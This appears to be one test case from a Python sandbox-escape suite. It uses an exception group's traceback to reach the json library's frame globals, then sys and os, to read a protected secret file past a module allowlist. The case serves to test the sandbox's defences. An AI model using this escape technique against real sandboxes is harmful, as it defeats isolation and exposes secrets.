# class: exceptions and frames
# technique: an exception group that holds an exception of library code
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import json
try:
    try:
        json.loads("x")
    except ValueError as error:
        raise ExceptionGroup("group", [error])
except* ValueError as group:
    g = {"sys": group.exceptions[0].__traceback__.tb_next.tb_frame.f_globals["codecs"].sys}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
